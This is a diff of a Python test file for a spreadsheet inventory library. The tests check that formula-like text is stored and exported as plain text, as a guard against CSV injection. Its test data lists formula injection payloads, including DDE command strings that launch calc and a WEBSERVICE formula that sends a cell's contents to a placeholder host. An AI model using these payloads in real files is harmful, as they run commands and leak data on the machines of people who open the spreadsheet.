@@ -1,4 +1,4 @@
-"""Text that begins like a formula is text in every table, after every button, in the saved file and in every export.
+"""Text that begins like a formula is text in every table, in the saved file and in every export.
 
 What a spreadsheet takes for a formula, and how a CSV file is guarded: OWASP, CSV Injection.
 """
@@ -29,7 +29,8 @@ from xlinventory.workbook import Workbook
 TODAY = 45000.0
 FORMULAS = (
     "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example","click")',
-    '=WEBSERVICE("http://x.example/"&A1)', "=DDE(\"cmd\";\"/C calc\";\"!\")", "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", '"=1+1', "'=1+1",
+    '=WEBSERVICE("http://x.example/"&A1)', "=DDE(\"cmd\";\"/C calc\";\"!\")", "＝1+1", "＋1+1", "－1+1",
+    "＠SUM(A1)", '"=1+1', "'=1+1",
     "{=1+1}", "=1+1\n=2+2",
 )  # fmt: skip
 TABLES_READ = ("Items", "Suppliers", "SupplierPrices", "PurchaseOrders", "Movements")
@@ -63,7 +64,8 @@ def write_files(folder: Path) -> None:
         writer.writerow([field.name for field in fields])
         for formula in FORMULAS:
             writer.writerow([
-                field.column.choices[0] if field.column.choices else VALUES.get(field.column.kind, formula) for field in fields
+                field.column.choices[0] if field.column.choices else VALUES.get(field.column.kind,
+                formula) for field in fields
             ])  # fmt: skip
         (folder / f"{'sales' if table == 'Movements' else table.lower()}.csv").write_text(
             out.getvalue(), "utf-8"
@@ -160,7 +162,8 @@ def exported(folder: Path) -> Path:
     """Orders whose every text is a formula, written to files."""
     book = empty_book()
     rows = [
-        {"po": formula, "supplier": f"{formula} Ltd", "sku": formula, "order_date": TODAY, "promised_date": TODAY + 7,
+        {"po": formula, "supplier": f"{formula} Ltd", "sku": formula, "order_date": TODAY,
+        "promised_date": TODAY + 7,
          "quantity": 2.0, "unit_price": 1.5, "status": "open"}
         for formula in FORMULAS
     ]  # fmt: skip
@@ -203,7 +206,7 @@ def test_no_sign_before_it_hides_a_formula(sign: str) -> None:
 
 
 def test_a_message_repeats_text_as_text() -> None:
-    """What a button says holds the text itself: a message box and a terminal show it, nobody calculates it."""
+    """What a button says holds the text itself: it is shown, nobody calculates it."""
     book = empty_book()
     row = {"date": TODAY, "sku": "=1+1", "kind": "=cmd|' /C calc'!A0", "quantity": 1.0}
     book.write_table("Movements", pd.DataFrame([row], columns=TABLES["Movements"].names, dtype=object))
